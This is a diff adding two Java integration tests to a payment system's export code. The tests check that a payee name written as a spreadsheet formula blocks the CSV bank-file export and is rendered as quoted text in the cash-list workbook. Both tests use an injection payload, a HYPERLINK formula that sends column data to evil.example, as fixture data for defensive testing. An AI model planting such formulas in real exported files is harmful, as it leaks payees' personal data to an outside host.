@@ -275,6 +275,46 @@ class PaymentChannelsIT {
         });
     }
 
+    @Test
+    void aPayeeNameThatASpreadsheetWouldRunAsAFormulaStopsTheBankFileNamingItsLine() {
+        YearMonth month = PaymentFixture.freshMonths(1);
+        long run = data.run(TUAN_GIAO.value(), month, "APPROVED");
+        long fine = data.bankLine(run, data.person("Lò Thị Ánh"), month, 750_000, "VBSP", "PENDING");
+        // a name recorded before the rule existed (the registry refuses it now)
+        long evil = data.bankLine(run, data.person("=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")"), month, 750_000,
+                "VBSP", "PENDING");
+
+        assertThatThrownBy(() -> run(OFFICER, new ExportBankFileCommand(run, TUAN_GIAO, "VBSP", "csv")))
+                .isInstanceOfSatisfying(BusinessRuleException.class, e -> {
+                    assertThat(e.messageKey()).isEqualTo("channels.export.error.formula");
+                    // the file lists payees by name: '=' sorts before letters, so it is line 1
+                    assertThat(e.arguments()).containsExactly(1, Long.toString(evil));
+                });
+        assertThat(List.of(status(fine), status(evil))).as("nothing exported").containsExactly("PENDING", "PENDING");
+    }
+
+    @Test
+    void theCashListShowsAFormulaLikeNameAsTextWithASingleQuote() throws Exception {
+        YearMonth month = PaymentFixture.freshMonths(1);
+        long run = data.run(TUAN_GIAO.value(), month, "APPROVED");
+        String evil = "=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")";
+        data.cashLine(run, data.person(evil), month, 750_000);
+        CashList list = new CashList("Xã Tuần Giáo", null, month, true, new ChannelLines(em).cash(run, null), Map.of());
+
+        java.util.List<String> texts = new java.util.ArrayList<>();
+        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(
+                new ByteArrayInputStream(CashListWorkbook.write(list)))) {
+            workbook.getSheetAt(0).forEach(row -> row.forEach(cell -> {
+                if (cell.getCellType() == org.apache.poi.ss.usermodel.CellType.FORMULA) {
+                    texts.add("FORMULA " + cell.getCellFormula());
+                } else if (cell.getCellType() == org.apache.poi.ss.usermodel.CellType.STRING) {
+                    texts.add(cell.getStringCellValue());
+                }
+            }));
+        }
+        assertThat(texts).contains("'" + evil).doesNotContain(evil).noneMatch(t -> t.startsWith("FORMULA HYPERLINK"));
+    }
+
     private BankResultReport check(long run, byte[] file) {
         return new BankResultParser(run, "VBSP", new ChannelLines(em)::states)
                 .parse("ket-qua-vbsp.csv", file.length, new ByteArrayInputStream(file));
